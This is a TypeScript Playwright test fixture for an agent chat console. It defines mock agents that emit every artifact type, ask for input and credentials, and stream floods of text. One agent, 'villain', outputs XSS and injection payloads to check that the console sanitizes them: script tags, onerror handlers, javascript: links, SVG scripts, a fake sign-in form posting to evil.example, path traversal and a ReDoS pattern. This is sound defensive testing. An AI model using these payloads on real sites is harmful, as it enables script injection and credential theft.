/** Agents that produce every kind of output, ask every kind of question, or are malicious; and page functions for the playground. */
import type { Browser, Locator, Page } from 'playwright-core'
import { waitFor } from '../admin/test-hub.ts'
import { openConsole } from './open-console.ts'
import type { ConsoleFixture } from './open-console.ts'

export async function openPlayground(browser: Browser): Promise<ConsoleFixture> {
  const fixture = await openConsole(browser, {
    files: { 'studio.ts': studio, 'clerk.ts': clerk, 'villain.ts': villain, 'flood.ts': flood, 'holder.ts': holder },
    config: {
      agents: {
        talker: {
          kind: 'module',
          path: './talker.ts',
          default: true,
          name: 'Talker',
          description: 'Says what you say.',
        },
        studio: { kind: 'module', path: './studio.ts', description: 'Answers with everything there is.' },
        clerk: { kind: 'module', path: './clerk.ts', description: 'Asks for everything there is.' },
        villain: { kind: 'module', path: './villain.ts', description: 'Means no good.' },
        flood: { kind: 'module', path: './flood.ts', description: 'Never stops talking.' },
        queuing: { kind: 'module', path: './holder.ts' },
        steered: { kind: 'module', path: './holder.ts', whenBusy: 'steer' },
        rejecting: { kind: 'module', path: './holder.ts', whenBusy: 'reject' },
        echo: { kind: 'demo', agent: 'echo' },
        clock: { kind: 'demo', agent: 'clock' },
        concierge: { kind: 'demo', agent: 'concierge' },
      },
    },
  })
  await fixture.context.grantPermissions(['clipboard-read', 'clipboard-write'])
  return fixture
}

export function composer(page: Page): Locator {
  return page.locator('.composer-text')
}

export async function sendText(page: Page, text: string): Promise<void> {
  await composer(page).fill(text)
  await composer(page).press('Enter')
}

/** The final state of the last task, as text. */
export async function waitForTaskEnd(page: Page, word = 'completed'): Promise<void> {
  await page.locator('.talk-end').filter({ hasText: word }).last().waitFor()
}

export function readClipboard(page: Page): Promise<string> {
  return page.evaluate('navigator.clipboard.readText()')
}

/** The clipboard, once it begins with this text. */
export async function waitForClipboard(page: Page, beginning: string): Promise<string> {
  return waitFor(async () => {
    const text = await readClipboard(page)
    return text.startsWith(beginning) ? text : undefined
  }, `something is copied that begins with ${beginning}`)
}

export function isFocused(field: Locator): Promise<boolean> {
  return field.evaluate((element: any) => element.ownerDocument.activeElement === element)
}

/** Whether the page scrolls horizontally. */
export function hasHorizontalScroll(page: Page): Promise<boolean> {
  return page.evaluate('document.documentElement.scrollWidth > innerWidth')
}

/** The traces that a script of an agent would leave. */
export function hasRunInjectedScript(page: Page): Promise<boolean> {
  return page.evaluate("'hacked' in globalThis")
}

export function taskIdOf(page: Page): string {
  return new URL(page.url()).searchParams.get('task') ?? ''
}

export function contextIdOf(page: Page): string {
  return new URL(page.url()).searchParams.get('context') ?? ''
}

const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

const studio = `
const rows = Array.from({ length: 250 }, (_, index) => ({ city: 'City ' + index, people: index * 1000, isOld: index % 2 === 0 }))
const wav = () => {
  const bytes = Buffer.alloc(44 + 800)
  bytes.write('RIFF', 0); bytes.writeUInt32LE(836, 4); bytes.write('WAVEfmt ', 8); bytes.writeUInt32LE(16, 16)
  bytes.writeUInt16LE(1, 20); bytes.writeUInt16LE(1, 22); bytes.writeUInt32LE(8000, 24); bytes.writeUInt32LE(8000, 28)
  bytes.writeUInt16LE(1, 32); bytes.writeUInt16LE(8, 34); bytes.write('data', 36); bytes.writeUInt32LE(800, 40)
  return bytes.fill(128, 44).toString('base64')
}
const made = (artifactId, part, more = {}) => ({ artifact: { artifactId, name: artifactId, parts: [part], ...more } })
export default async function* ({ message }) {
  yield { state: 'TASK_STATE_WORKING', message: { parts: [{ text: 'Mixing the colours' }] } }
  yield { state: 'TASK_STATE_WORKING', message: { parts: [{ text: 'The helper draws' }], referenceTaskIds: ['0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b'], metadata: { 'https://parley.dev/extensions/delegation/v1': { agent: 'helper' } } } }
  yield made('report.md', { text: '# A report\\n\\n- one\\n- **two**\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |\\n', mediaType: 'text/markdown' })
  yield made('plain', { text: 'just *text*', mediaType: 'text/plain' })
  yield made('main.py', { text: 'print("hello")\\n', mediaType: 'text/x-python', filename: 'main.py' })
  yield made('settings', { data: { theme: { dark: true }, list: [1, 2, 3] } })
  yield made('cities', { data: rows })
  yield made('prices', { text: 'what,price\\n"bread, white",2.50\\nwine,12.00\\n', mediaType: 'text/csv' })
  yield made('stock', { raw: Buffer.from('what;left\\nbread;3\\n').toString('base64'), mediaType: 'text/csv', filename: 'stock.csv' })
  yield made('dot', { raw: '${png}', mediaType: 'image/png', filename: 'dot.png' })
  yield made('sound', { raw: wav(), mediaType: 'audio/wav', filename: 'silence.wav' })
  yield made('film', { raw: 'AAAA', mediaType: 'video/mp4', filename: 'film.mp4' })
  yield made('notes', { raw: Buffer.from('Where: Rome\\n').toString('base64'), mediaType: 'text/plain', filename: 'notes.txt' })
  yield made('paper', { raw: Buffer.from('%PDF-1.4\\n%%EOF\\n').toString('base64'), mediaType: 'application/pdf', filename: 'paper.pdf' })
  yield made('orders', { data: { page: 1, orders: [{ id: 10, who: 'Ann', lines: [{ sku: 'a' }] }, { id: 9, who: 'Bob', lines: [] }] } })
  yield made('archive', { raw: Buffer.from([80, 75, 3, 4]).toString('base64'), mediaType: 'application/zip', filename: 'all.zip' })
  yield made('elsewhere', { url: 'https://example.com/report.pdf', mediaType: 'application/pdf', filename: 'report.pdf' })
  yield made('received', { data: { parts: message.parts.map((part) => ({ ...part, raw: part.raw === undefined ? undefined : part.raw.length })) } })
}
`

const clerk = `
const tools = 'https://parley.dev/extensions/client-tools/v1'
const credentials = 'https://parley.dev/extensions/credentials/v1'
const asked = (parts, metadata) => ({ state: 'TASK_STATE_INPUT_REQUIRED', message: { parts, ...(metadata ? { metadata } : {}) } })
const schema = {
  type: 'object',
  properties: {
    city: { type: 'string', title: 'City', description: 'Where to' },
    people: { type: 'integer', minimum: 1, maximum: 8 },
    table: { type: 'string', enum: ['inside', 'outside'] },
    extras: { type: 'array', items: { type: 'string', enum: ['bread', 'wine'] } },
    smoking: { type: 'boolean', title: 'Smoking' },
  },
  required: ['city', 'people'],
}
const schemes = {
  github: { httpAuthSecurityScheme: { scheme: 'bearer', description: 'A token of yours' } },
  login: { oauth2SecurityScheme: { flows: { authorizationCode: { authorizationUrl: 'https://id.example.com/authorize', tokenUrl: 'https://id.example.com/token', scopes: {} } } } },
}
const authPart = (inBand) => ({ data: { securitySchemes: schemes, ...(inBand ? { inBand } : {}) }, metadata: { [credentials]: { type: 'auth-request' } } })
const auth = (parts) => ({ state: 'TASK_STATE_AUTH_REQUIRED', message: { parts } })
/** The received message, without internal fields. */
const came = (message) => message.parts.map((part) => 'text' in part ? { text: part.text.length > 0 ? part.text : '' } : { data: part.data, marks: Object.keys(part.metadata ?? {}) })
export default async function* ({ text, message, history }) {
  const first = (await history()).find(({ role }) => role === 'ROLE_USER').parts[0].text
  if ((await history()).filter(({ role }) => role === 'ROLE_USER').length === 1) {
    if (first === 'words') return yield asked([{ text: 'Which city?' }])
    if (first === 'form') return yield asked([{ text: 'A table for whom?\\n- city: City: Where to\\n- people (optional)\\n- table\\n- extras\\n- smoking' }, { data: { requestedSchema: schema, arguments: { people: 2 } } }])
    if (first === 'secret') return yield asked([{ text: 'Your PIN, please' }], { [tools]: { inputRequest: { requestId: 'r-1', prompt: 'PIN', sensitive: true } } })
    if (first === 'secret form') return yield asked([{ text: 'Sign in' }, { data: { requestedSchema: { type: 'object', properties: { user: { type: 'string' }, password: { type: 'string', format: 'password' } }, required: ['user', 'password'] } } }])
    if (first === 'tool') return yield asked([{ data: { toolUseId: 'u-1', name: 'position', input: { of: 'you' } }, metadata: { [tools]: { type: 'tool-use' } } }])
    if (first === 'auth') return yield auth([{ text: 'I need your account.' }, { url: 'https://id.example.com/start' }, authPart(false)])
    if (first === 'auth here') return yield auth([{ text: 'A token, please.' }, authPart(true)])
  }
  // A secret is shown by its length only.
  if (/secret|auth here/.test(first)) return yield 'You gave me ' + String(text || JSON.stringify(message.parts[0].data)).length + ' letters. '
  yield { artifact: { artifactId: 'came', parts: [{ data: { came: came(message) } }] } }
}
`

const villain = `
export default async function* ({ text }) {
  const markdown = [
    '<script>window.hacked = 1</script>',
    '<img src="x" onerror="window.hacked = 2">',
    '<img src="https://evil.example/pixel.png" onload="window.hacked = 3" alt="pixel">',
    '![outside](https://evil.example/track.png)',
    '[press me](javascript:window.hacked=4)',
    '[or me](JaVaScRiPt:window.hacked=5)',
    '[data](data:text/html,<script>parent.hacked=6</script>)',
    '[good](https://example.com/fine)',
    '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>',
    '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/s.css">',
    '<form action="https://evil.example/steal"><input name="q"><button>Sign in</button></form>',
    '<a href="/admin/session" onclick="window.hacked = 7" style="position:fixed;inset:0">over all</a>',
    '<svg><script>window.hacked = 8</script><image href="https://evil.example/i.png"/></svg>',
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
  ].join('\\n\\n')
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="window.hacked=9"><script>window.hacked=10</script><image href="https://evil.example/in-svg.png" width="9" height="9"/><rect width="20" height="20"/></svg>'
  const evil = '"><img src=x onerror=window.hacked=11>'
  yield { state: 'TASK_STATE_WORKING', message: { parts: [{ text: evil }], referenceTaskIds: ['../../admin/session?' + evil] } }
  yield { artifact: { artifactId: 'markdown', name: evil, description: evil, parts: [{ text: markdown }] } }
  yield { artifact: { artifactId: 'svg', parts: [{ raw: Buffer.from(svg).toString('base64'), mediaType: 'image/svg+xml', filename: '../../' + evil + '.svg' }] } }
  yield { artifact: { artifactId: 'html', parts: [{ raw: Buffer.from('<script>window.hacked=12</script>').toString('base64'), mediaType: 'text/html', filename: 'page.html' }] } }
  yield { artifact: { artifactId: 'broken', parts: [{ raw: 'AAAA', mediaType: 'image/png', filename: 'broken.png' }] } }
  yield { artifact: { artifactId: 'links', parts: [{ url: 'javascript:window.hacked=13', filename: evil }, { url: 'https://evil.example/picture.png', mediaType: 'image/png' }, { url: 'data:text/html,<script>opener.hacked=14</script>' }] } }
  yield { artifact: { artifactId: 'words', parts: [{ text: 'W'.repeat(5000), mediaType: 'text/plain' }, { text: 'M'.repeat(5000) }] } }
  yield { artifact: { artifactId: 'table', parts: [{ data: [{ [evil]: evil, __proto__x: '<b>bold</b>' }] }] } }
  yield { state: 'TASK_STATE_INPUT_REQUIRED', message: { parts: [{ text: evil }, { data: { requestedSchema: { type: 'object', properties: { [evil]: { type: 'string', title: evil, description: evil, enum: [evil, 'fine'], pattern: '(a+)+$' } } } } }] } }
}
`

const flood = `
export default async function* ({ text, signal }) {
  if (text === 'prose') {
    const prose = ['# A', 'b '.repeat(1000), '## C', 'd '.repeat(1000), 'e '.repeat(1000), '### F', 'g']
    yield { artifact: { artifactId: 'words', parts: [{ text: prose.join('\\n\\n') }] }, lastChunk: false }
    return new Promise((resolve) => signal.addEventListener('abort', resolve))
  }
  if (text === 'code') return yield '~~~yaml\\n' + 'key: value\\n'.repeat(9000) + 'last: 1\\n~~~'
  const count = Number(text) || 5000
  for (let index = 0; index < count; index += 1) {
    const end = index % 40 === 39 ? '\\n\\n' : ' '
    yield { artifact: { artifactId: 'words', parts: [{ text: 'w' + index + end }] }, append: index > 0, lastChunk: index === count - 1 }
    if (index % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 5))
  }
}
`

/** Ends the turn of an agent of `holder.ts` that holds. */
export function releaseTurn(): void {
  const scope = globalThis as { releaseTurn?: () => void }
  scope.releaseTurn?.()
}

/** Works until it is released, repeats what it is sent meanwhile, or fails. */
const holder = `
export default async function* ({ text, messages, signal }) {
  if (text === 'fail') throw new Error('the printer is on fire')
  if (text !== 'hold') return yield 'Then: ' + text
  yield 'Holding. '
  const released = new Promise((resolve) => {
    globalThis.releaseTurn = resolve
    signal.addEventListener('abort', resolve)
  })
  const arriving = messages[Symbol.asyncIterator]()
  for (;;) {
    const next = await Promise.race([released, arriving.next()])
    if (next?.value === undefined) break
    yield 'Meanwhile: ' + next.value.parts[0].text + '. '
  }
  yield 'Released. '
}
`
